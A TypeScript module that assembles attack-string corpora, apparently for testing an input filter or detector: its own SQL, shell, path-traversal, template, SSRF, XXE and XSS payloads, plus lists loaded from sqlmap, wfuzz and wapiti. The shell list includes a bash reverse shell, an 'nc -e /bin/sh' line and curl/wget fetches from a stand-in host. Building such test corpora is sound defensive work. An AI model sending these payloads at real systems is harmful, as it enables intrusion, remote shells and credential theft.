/**
 * Attack strings: our own, and those of the Debian packages sqlmap, wfuzz and wapiti where a folder holds them unpacked
 * (`apt-get download sqlmap wfuzz wapiti`, then `dpkg -x`). Their lists are read, never copied: they are under the GPL.
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

export interface AttackSet {
  readonly name: string;
  readonly strings: readonly string[];
}

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: what attackers write
// biome-ignore format: lists
const OWN: readonly AttackSet[] = [
  { name: 'own: SQL', strings: [
    "' OR 1=1 --", "' or '1'='1", "admin'--", "admin' #", "1 OR 1=1", "1' AND 1=2 UNION SELECT null, version() --", "1;DROP TABLE users",
    "'; DROP TABLE users; --", "') OR ('a'='a", "1 UNION ALL SELECT 1,2,3", "' UNION SELECT username, password FROM users --",
    "1/**/OR/**/1=1", "' || '1'='1", "x' AND email IS NULL; --", "1 AND (SELECT COUNT(*) FROM information_schema.tables) > 0",
    "'; WAITFOR DELAY '0:0:5' --", "1; SELECT pg_sleep(5)", "' AND SLEEP(5) AND 'a'='a", "1 AND SLEEP(5)", "1' ORDER BY 10--",
    "'; EXEC xp_cmdshell('dir'); --", "' AND extractvalue(1, concat(0x7e, version())) --", "' INTO OUTFILE '/tmp/x' --",
    "%27%20OR%201%3D1--", "1 or 2>1", "' having 1=1--", "1' or benchmark(5000000,md5(1))#", "'+or+1=1--", "\" or \"\"=\"", "' or ''='",
  ] },
  { name: 'own: shell', strings: [
    '; cat /etc/passwd', '| id', '`id`', '$(whoami)', '; ping -c 5 10.0.0.1', 'a; sleep 10', '& whoami', '|| uname -a', '$(curl http://x.test/a)',
    ';cat${IFS}/etc/passwd', 'x && nslookup x.test', '; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', '& ipconfig /all', 'a | nc -e /bin/sh 10.0.0.1 1',
    '$(sleep 5)', 'cmd /c dir', 'x;wget http://x.test/a.sh', "'; powershell -enc AAAA",
  ] },
  { name: 'own: path', strings: [
    '../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/etc/passwd', '....//....//etc/passwd', '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '/proc/self/environ', 'file:///etc/passwd', '..%c0%af..%c0%afetc/passwd', 'C:\\windows\\system32\\drivers', '..%2f..%2f..%2fetc%2fshadow', '/etc/shadow%00',
  ] },
  { name: 'own: template', strings: [
    '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', "{{''.__class__.__mro__[1].__subclasses__()}}", '${jndi:ldap://x.test/a}',
    '${${lower:j}ndi:${lower:l}dap://x.test/a}', '${T(java.lang.Runtime).getRuntime().exec("id")}', '#set($x=$class.inspect("java.lang.Runtime"))',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', '{{config.items()}}', '*{T(java.lang.Runtime).getRuntime()}', "{{constructor.constructor('alert(1)')()}}",
    '${jndi:${lower:l}${lower:d}ap://x}', '${::-j}${::-n}${::-d}${::-i}', "{{request.application.__globals__}}", '{{ "7" * 7 }}', '<%= system("id") %>',
  ] },
  { name: 'own: SSRF', strings: [
    'http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/', 'http://127.0.0.1:8080/admin', 'http://[::1]/', 'http://10.0.0.5/',
    'http://192.168.1.1/', 'http://2130706433/', 'http://0x7f000001/', 'http://0177.0.0.1/', 'gopher://127.0.0.1:6379/_INFO', 'dict://127.0.0.1:11211/stats',
    'file:///etc/hosts', 'http://[::ffff:127.0.0.1]/', 'http://localhost/', 'http://172.16.0.1/', 'http://100.100.100.200/', 'http://user@169.254.169.254/', 'http://127.0.0.1.nip.io/',
    'php://filter/convert.base64-encode/resource=index.php', 'jar:http://x.test/a.jar!/b', 'ldap://x.test:389/a', 'http://[fd00:ec2::254]/',
  ] },
  { name: 'own: XML', strings: [
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', '<!DOCTYPE a SYSTEM "http://x.test/a.dtd">', '<!ENTITY % p SYSTEM "http://x.test/p">',
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>', '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]>',
  ] },
  { name: 'own: other', strings: [
    '*)(uid=*))(|(uid=*', 'admin)(&)', '*)(|(mail=*))', 'x\r\nSet-Cookie: a=b', 'x%0d%0aLocation: http://x.test', 'rO0ABXNyABFqYXZhLnV0aWwu',
    'O:8:"stdClass":1:{s:1:"a";i:1;}', '<!--#exec cmd="id" -->',
  ] },
  { name: 'own: script', strings: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(1)', '<svg/onload=alert(1)>', '" onmouseover="alert(1)', '<iframe src=//x.test>'] },
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: what attackers write

export function attackSets(folder: string | null): AttackSet[] {
  const found: AttackSet[] = [...OWN];
  if (folder === null) return found;
  const wfuzz = join(folder, 'wfuzz/usr/share/wfuzz/wordlist');
  const wapiti = join(folder, 'wapiti/usr/lib/python3/dist-packages/wapitiCore/data/attacks');
  for (const [name, file, keep] of [
    ['wfuzz: SQL', join(wfuzz, 'Injections/SQL.txt'), isEnough],
    ['wfuzz: traversal', join(wfuzz, 'Injections/Traversal.txt'), isEnough],
    ['wfuzz: XML', join(wfuzz, 'Injections/XML.txt'), isEnough],
    ['wfuzz: XSS', join(wfuzz, 'Injections/XSS.txt'), isEnough],
    ['wapiti: blind SQL', join(wapiti, 'blindSQLPayloads.txt'), isEnough],
    ['wapiti: commands', join(wapiti, 'execPayloads.txt'), isEnough],
  ] as const) {
    if (existsSync(file)) found.push({ name, strings: lines(file).map(filled).filter(keep) });
  }
  const sqlmap = join(folder, 'sqlmap/usr/share/sqlmap/data/xml/payloads');
  for (const kind of ['boolean_blind', 'error_based', 'inline_query', 'stacked_queries', 'time_blind', 'union_query']) {
    const file = join(sqlmap, `${kind}.xml`);
    if (existsSync(file))
      found.push({
        name: `sqlmap: ${kind.replace('_', ' ')}`,
        strings: sqlmapStrings(readFileSync(file, 'utf8').replaceAll(/<!--[\s\S]*?-->/g, ''), kind),
      });
  }
  return found;
}

const lines = (file: string): string[] => readFileSync(file, 'latin1').split(/\r?\n/);

/** Of the lists, what is one character or one word alone says nothing about an attack. */
const isEnough = (text: string): boolean => text.length > 4 && /[^\w\s]/.test(text);

const VALUES: Readonly<Record<string, string>> = {
  TIME: '5',
  VALUE: '1',
  LF: '\n',
  TAB: '\t',
  RANDNUM: '4021',
  RANDNUM1: '4022',
  SLEEPTIME: '5',
  RANDSTR: 'Qwxz',
  RANDSTR1: 'Bnmk',
  DELIMITER_START: 'qzxq',
  DELIMITER_STOP: 'qvkq',
  ORIGVALUE: '1',
  INFERENCE: '4021=4021',
  QUERY: 'SELECT version()',
  GENERIC_SQL_COMMENT: '-- Zxcv',
  CHAR: 'NULL',
  COLSTART: '1',
  COLSTOP: '10',
  SPACE_REPLACE: 'c',
};

function filled(text: string): string {
  return text.replaceAll(/\[([A-Z_0-9]+)\]/g, (whole, name: string) => VALUES[name] ?? whole);
}

const BREAKOUTS = [
  ['', ''],
  ["'", ''],
  [')', ''],
  ["')", ''],
] as const;

/** Tests as sqlmap sends them: a value, a breakout, the payload and what comments the rest away. */
function sqlmapStrings(xml: string, kind: string): string[] {
  const strings: string[] = [];
  for (const [, request] of xml.matchAll(/<request>([\s\S]*?)<\/request>/g)) {
    const raw = /<payload>([\s\S]*?)<\/payload>/.exec(request as string)?.[1] ?? '';
    const comment = /<comment>([\s\S]*?)<\/comment>/.exec(request as string)?.[1] ?? '';
    const payload = kind === 'union_query' ? 'UNION ALL SELECT NULL,NULL,NULL' : unescaped(raw).trim();
    if (payload === '') continue;
    const joint = payload.startsWith(';') ? '' : ' ';
    for (const [breakout, rest] of BREAKOUTS)
      strings.push(filled(`1${breakout}${joint}${payload}${unescaped(comment)}${rest}`));
  }
  return strings;
}

function unescaped(text: string): string {
  return text.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&');
}
